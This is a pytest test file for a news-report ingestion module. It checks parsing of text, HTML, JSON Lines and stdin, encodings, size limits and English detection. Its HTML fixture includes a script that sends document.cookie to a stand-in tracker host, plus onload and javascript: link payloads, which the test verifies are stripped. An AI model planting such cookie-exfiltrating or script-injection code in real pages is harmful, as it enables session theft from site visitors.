"""Reading reports: text, HTML, JSON Lines, stdin, and inputs that must be refused."""

import io
import json
import sys
import time
from datetime import date, datetime, timezone

import pytest

import marsad.ingest.jsonl as jsonl_module
import marsad.ingest.reader as reader_module
from marsad.ingest import (
    MAX_BYTES,
    InputError,
    looks_english,
    read_bytes,
    read_jsonl,
    read_path,
    read_stdin,
    read_text,
)
from marsad.model import Document

NO_DATE = "no publication date: relative dates left unresolved"

REPORT = (
    "Gunmen attacked a police checkpoint outside the river town of Karsa on Friday, "
    "killing three officers, the interior ministry said.\n\n"
    "No group has claimed the attack, which came a week after a truce was signed.\n"
)

BLOG = (
    "UPDATE 1520 GMT: The ministry raised the toll to five and said the gunmen had fled.\n\n"
    "ORIGINAL ENTRY: " + REPORT
)

PAGE = """<!DOCTYPE html>
<html><head>
<title>Checkpoint attack near Karsa | The Daily Example</title>
<meta property="article:published_time" content="2022-04-08T10:30:00+00:00">
<script>var token = "SECRET-SCRIPT-TEXT"; document.write("INJECTED-BY-SCRIPT");</script>
<style>p { color: red }</style>
</head>
<body onload="alert('ONLOAD-PAYLOAD')">
<nav><a href="/">Home</a> | <a href="/world">World</a></nav>
<article>
<h1>Checkpoint attack near Karsa</h1>
<p>UPDATE 1520 GMT: The ministry raised the toll to five and said the gunmen had fled
into the hills north of the town.</p>
<p>A <a href="javascript:alert('LINK-PAYLOAD')">spokesman</a> for the provincial governor
said that reinforcements had been sent from the regional capital overnight.</p>
<script>fetch("https://tracker.invalid/?q=" + document.cookie); // BODY-SCRIPT-TEXT</script>
<p>ORIGINAL ENTRY: Gunmen attacked a police checkpoint outside the river town of Karsa
on Friday, killing three officers, the interior ministry said in a statement.</p>
</article>
<footer>All rights reserved</footer>
</body></html>
"""


def write(tmp_path, name: str, data: str | bytes):
    path = tmp_path / name
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8", newline="")
    else:
        path.write_bytes(data)
    return path


def test_ingest_text_file_becomes_segmented_document(tmp_path):
    doc = read_path(write(tmp_path, "karsa-attack.txt", BLOG), published=date(2022, 4, 8))
    assert isinstance(doc, Document)
    assert (doc.id, doc.text, doc.published, doc.title) == ("karsa-attack", BLOG, date(2022, 4, 8), None)
    assert doc.notes == ()
    assert [(s.label, s.time) for s in doc.segments] == [
        ("UPDATE 1520 GMT", datetime(2022, 4, 8, 15, 20, tzinfo=timezone.utc)),
        ("ORIGINAL ENTRY", None)]


@pytest.mark.parametrize("name", ["report.txt", "report", "report.md"])
def test_ingest_without_date_notes_it(tmp_path, name):
    doc = read_path(write(tmp_path, name, REPORT))
    assert doc.id == "report"
    assert doc.published is None
    assert NO_DATE in doc.notes
    assert [(s.start, s.end) for s in doc.segments] == [(0, len(REPORT))]


@pytest.mark.parametrize("name", ["page.html", "page.htm", "page.txt", "page"])
def test_ingest_html_keeps_article_and_drops_scripts(tmp_path, name):
    doc = read_path(write(tmp_path, name, PAGE))
    assert doc.id == "page"
    assert doc.published == date(2022, 4, 8)
    assert doc.title and "Checkpoint attack near Karsa" in doc.title
    assert "reinforcements had been sent" in doc.text
    for leaked in ("SECRET-SCRIPT-TEXT", "INJECTED-BY-SCRIPT", "ONLOAD-PAYLOAD", "LINK-PAYLOAD",
                   "BODY-SCRIPT-TEXT", "document.cookie", "javascript:", "<script", "color: red"):
        assert leaked not in doc.text
    assert NO_DATE not in doc.notes
    assert [s.label for s in doc.segments if s.label] == ["UPDATE 1520 GMT", "ORIGINAL ENTRY"]
    entry = doc.segments[-2]
    assert entry.time == datetime(2022, 4, 8, 15, 20, tzinfo=timezone.utc)
    assert doc.text[entry.start:].startswith("UPDATE 1520 GMT:")


def test_ingest_published_argument_wins_over_html_date(tmp_path):
    doc = read_path(write(tmp_path, "page.html", PAGE), published=date(2022, 4, 9))
    assert doc.published == date(2022, 4, 9)


def test_ingest_html_date_only_from_metadata(tmp_path):
    page = ("<html><head><title>Talks</title></head><body><article><p>Envoys met in the "
            "capital on 3 March 2021 to discuss the prisoner exchange agreed last winter, "
            "officials said.</p></article></body></html>")
    doc = read_path(write(tmp_path, "talks.html", page))
    assert doc.published is None
    assert NO_DATE in doc.notes


def test_ingest_read_text_sniffs_html():
    doc = read_text(PAGE, "posted")
    assert doc.id == "posted" and "SECRET-SCRIPT-TEXT" not in doc.text
    assert "interior ministry" in doc.text


def test_ingest_jsonl_broken_lines_do_not_stop_the_rest(tmp_path):
    lines = [
        json.dumps({"id": "a1", "text": BLOG, "published": "2022-04-08", "title": "Karsa",
                    "url": "https://example.org/karsa"}),
        '{"id": "a2", "text": "unterminated',
        "",
        json.dumps(["not", "an", "object"]),
        json.dumps({"id": "a5", "title": "no text here"}),
        json.dumps({"id": "a6", "text": REPORT, "published": "last Tuesday"}),
        json.dumps({"id": 7, "text": REPORT, "published": "2022-04-08T23:15:00+03:00"}),
        json.dumps({"text": REPORT}),
    ]
    path = write(tmp_path, "batch.jsonl", "\n".join(lines) + "\n")
    results = list(read_jsonl(path))
    assert [type(r).__name__ for r in results] == [
        "Document", "InputError", "InputError", "InputError", "InputError", "Document", "Document"]
    first, seventh, eighth = results[0], results[5], results[6]
    assert (first.id, first.title, first.url, first.published) == (
        "a1", "Karsa", "https://example.org/karsa", date(2022, 4, 8))
    assert first.segments[0].time == datetime(2022, 4, 8, 15, 20, tzinfo=timezone.utc)
    assert (seventh.id, seventh.published) == ("7", date(2022, 4, 8))
    assert (eighth.id, eighth.published) == ("line-8", None)
    errors = [r for r in results if isinstance(r, InputError)]
    assert [e.line for e in errors] == [2, 4, 5, 6]
    assert all(str(e).startswith(f"{path} line {e.line}: ") for e in errors)
    assert all("\n" not in str(e) for e in errors)


def test_ingest_jsonl_from_stream_and_published_override():
    stream = io.StringIO(json.dumps({"id": "x", "text": REPORT, "published": "2020-01-01"}) + "\n")
    (doc,) = read_jsonl(stream, published=date(2022, 4, 8))
    assert doc.published == date(2022, 4, 8)


def test_ingest_jsonl_oversized_line_is_skipped(tmp_path, monkeypatch):
    monkeypatch.setattr(jsonl_module, "MAX_BYTES", 400)
    big = json.dumps({"id": "big", "text": "word " * 200})
    small = json.dumps({"id": "small", "text": REPORT})
    results = list(read_jsonl(write(tmp_path, "b.jsonl", f"{big}\n{small}\n")))
    assert isinstance(results[0], InputError) and "limit" in str(results[0])
    assert results[1].id == "small"


@pytest.mark.parametrize(("make", "message"), [
    (lambda tmp: tmp / "absent.txt", "no such file"),
    (lambda tmp: tmp, "directory"),
])
def test_ingest_unreadable_path_raises(tmp_path, make, message):
    with pytest.raises(InputError, match=message):
        read_path(make(tmp_path))
    with pytest.raises(InputError, match=message):
        read_jsonl(make(tmp_path))


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n  ", b"\xef\xbb\xbf", b"\xef\xbb\xbf \n"])
def test_ingest_empty_input_gives_empty_document(tmp_path, data):
    doc = read_path(write(tmp_path, "blank.txt", data), published=date(2022, 4, 8))
    assert (doc.text, doc.segments) == ("", ())
    assert "empty input" in doc.notes


@pytest.mark.parametrize("data", [
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00",
    b"Some words then a NUL\x00 and more words",
    bytes(range(1, 32)) * 40,
])
def test_ingest_binary_content_raises(tmp_path, data):
    with pytest.raises(InputError, match="binary"):
        read_path(write(tmp_path, "blob.txt", data))


def test_ingest_invalid_utf8_falls_back_to_cp1252(tmp_path):
    data = "The governor\u2019s office said \u201cfive\u201d were hurt.".encode("cp1252")
    doc = read_path(write(tmp_path, "legacy.txt", data), published=date(2022, 4, 8))
    assert doc.text == "The governor\u2019s office said \u201cfive\u201d were hurt."
    assert "decoded as cp1252: not valid UTF-8" in doc.notes


def test_ingest_utf16_with_bom_is_decoded(tmp_path):
    doc = read_path(write(tmp_path, "wide.txt", REPORT.encode("utf-16")), published=date(2022, 4, 8))
    assert doc.text == REPORT


def test_ingest_oversized_file_is_refused_without_reading(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as stream:
        stream.truncate(21 * 1024 * 1024)    # sparse: no 21 MB written
    started = time.perf_counter()
    with pytest.raises(InputError, match="20 MiB"):
        read_path(path)
    assert time.perf_counter() - started < 1.0
    assert MAX_BYTES == 20 * 1024 * 1024


def test_ingest_oversized_stream_read_is_bounded(monkeypatch):
    monkeypatch.setattr(reader_module, "MAX_BYTES", 100)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"x" * 10_000)))
    with pytest.raises(InputError, match="limit"):
        read_stdin()
    assert sys.stdin.buffer.tell() == 101


def test_ingest_crlf_and_bom_are_normalised(tmp_path):
    data = b"\xef\xbb\xbfUPDATE 0700 GMT: Roads reopened.\r\nORIGINAL ENTRY: Snow fell.\r\n"
    doc = read_path(write(tmp_path, "crlf.txt", data), published=date(2022, 4, 8))
    assert doc.text == "UPDATE 0700 GMT: Roads reopened.\nORIGINAL ENTRY: Snow fell.\n"
    assert [s.start for s in doc.segments] == [0, 33]


@pytest.mark.parametrize(("data", "is_html"), [
    (REPORT.encode(), False),
    (PAGE.encode(), True),
])
def test_ingest_stdin_reads_text_or_html(monkeypatch, data, is_html):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    doc = read_stdin(published=date(2022, 4, 8))
    assert doc.id == "stdin"
    assert ("<" in doc.text) is False
    assert ("reinforcements" in doc.text) is is_html


FOREIGN = {
    "French": "Des hommes armés ont attaqué un poste de police près de la ville, tuant trois "
              "agents selon le ministère de l'Intérieur, qui a promis une enquête rapide.",
    "Arabic": "هاجم مسلحون نقطة تفتيش للشرطة قرب البلدة وقتلوا ثلاثة من عناصرها بحسب وزارة الداخلية.",
    "Russian": "Вооружённые люди напали на полицейский пост возле города и убили трёх сотрудников, "
               "сообщило министерство внутренних дел.",
    "Spanish": "Hombres armados atacaron un puesto de control de la policía cerca del pueblo y "
               "mataron a tres agentes, según el ministerio del Interior.",
}


@pytest.mark.parametrize("language", sorted(FOREIGN))
def test_ingest_non_english_is_read_but_flagged(tmp_path, language):
    doc = read_path(write(tmp_path, "foreign.txt", FOREIGN[language]), published=date(2022, 4, 8))
    assert doc.text == FOREIGN[language]
    assert not looks_english(doc.text)
    flagged = [n for n in doc.notes if n.startswith("not English (")]
    assert len(flagged) == 1 and flagged[0].endswith("): no extraction attempted")


@pytest.mark.parametrize(("text", "expected"), [
    (REPORT, True),
    (BLOG, True),
    ("Two killed in Karsa", True),
    (REPORT + FOREIGN["Arabic"], True),
    (FOREIGN["Arabic"] + FOREIGN["Russian"] + REPORT, False),
    ("12345 67890", False),
])
def test_ingest_looks_english(text, expected):
    assert looks_english(text) is expected


def test_ingest_read_bytes_names_the_document():
    doc = read_bytes(REPORT.encode(), "upload-1", published=date(2022, 4, 8))
    assert (doc.id, doc.text, doc.notes) == ("upload-1", REPORT, ())


def test_html_page_without_article_text_says_so(tmp_path):
    page = b"<html><head><script>var x = 1;</script></head><body><nav></nav></body></html>"
    doc = read_path(write(tmp_path, "page.html", page), published=date(2022, 4, 8))
    assert doc.text == ""
    assert "no article text found in the HTML page" in doc.notes
    assert "empty input" not in doc.notes
